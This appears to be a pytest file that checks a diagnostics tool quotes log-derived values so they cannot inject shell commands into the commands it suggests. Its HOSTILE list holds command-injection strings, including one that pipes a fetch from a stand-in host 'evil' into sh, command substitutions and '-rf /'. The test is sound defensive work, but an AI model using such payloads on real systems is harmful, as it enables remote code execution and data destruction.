"""Whatever a log calls a group, a topic or a host: a command that diag prints runs nothing but itself."""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator

import pytest

from analyzers.diagnosis.templates import TYPED, fill
from analyzers.rules.catalogue import load_rules

HOSTILE = (
    "x;curl${IFS}evil|sh;",
    "$(touch pwned)",
    "`touch pwned`",
    "a b && touch pwned",
    "it's; touch pwned; echo '",
    'say "; touch pwned; echo "',
    "one\ntouch pwned\n",
    "# nothing follows",
    "-rf /",
)
_FIELD = re.compile(r"\{(\w+)\}")


def commands() -> Iterator[tuple[str, str, bool]]:
    """Where a template with a command stands, the template, and whether all of it is one."""
    for rule in load_rules():
        texts = {"": rule.next_command} if isinstance(rule.next_command, str) else dict(rule.next_command or {})
        yield from ((f"{rule.code} next {reason}", text, True) for reason, text in texts.items() if text)
        for reason, steps in rule.steps.items():
            yield from ((f"{rule.code} step {reason}", step, False) for step in steps)
        yield from ((f"{rule.code} fix {reason}", text, False) for reason, text in dict(rule.fix).items())  # type: ignore[call-overload]


def parsed(filled: str, whole: bool) -> list[list[str]]:
    """The words that a shell makes of each command in a text, with its operators as words of their own."""
    spans = [filled.partition("   #")[0]] if whole else re.findall(r"`([^`]*)`", filled)
    return [list(shlex.shlex(span, posix=True, punctuation_chars=True)) for span in spans]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_stays_one_word_of_the_command(value: str) -> None:
    wrong = []
    for place, template, whole in commands():
        fields = _FIELD.findall(template)
        if not fields or (not whole and "`" not in template):
            continue
        harmless = fill(template, None, dict.fromkeys(fields, "x"), command=whole) or ""
        values = {name: "x" if name in TYPED else value for name in fields}  # those are quoted where they are made
        hostile = fill(template, None, values, command=whole) or ""
        if not whole and value.count("`"):
            continue  # what is quoted may hold a back-tick, and the end of the span is not told from it
        try:
            lengths = [len(words) for words in parsed(harmless, whole)], [len(words) for words in parsed(hostile, whole)]
        except ValueError as error:
            wrong.append(f"{place}: {error}: {hostile}")
            continue
        if lengths[0] != lengths[1]:
            wrong.append(f"{place}: {hostile}")
    assert wrong == []


_PROGRAM = r"(?:kafka-[\w-]+\.sh|diag (?:triage|collect|\w+-\w+)|flink run|kubectl|yarn|curl|jstack|ls|getent|openssl|zless|sysctl)"
_COMMAND = re.compile(rf"\b{_PROGRAM} [^`.;(]*\{{\w+\}}")


def test_a_command_with_a_value_stands_between_back_ticks() -> None:
    """Else nothing says where the command ends, and its value is not quoted."""
    bare = {f"{place}: {text}" for place, text, whole in commands() if not whole and _COMMAND.search(re.sub(r"`[^`]*`", "", text))}
    assert not bare


def test_what_needs_no_quotes_gets_none() -> None:
    assert fill("diag lag-report --group {group}", None, {"group": "orders-1"}, command=True) == "diag lag-report --group orders-1"
    assert fill("diag lag-report --group {group}", None, {"group": "or ders"}, command=True) == "diag lag-report --group 'or ders'"
    assert fill("say {group}: `ls {group}`", None, {"group": "or ders"}) == "say or ders: `ls 'or ders'`"
    assert fill("bash -c 'echo {host}'", None, {"host": "a';b"}, command=True) == "bash -c 'echo a__b'"
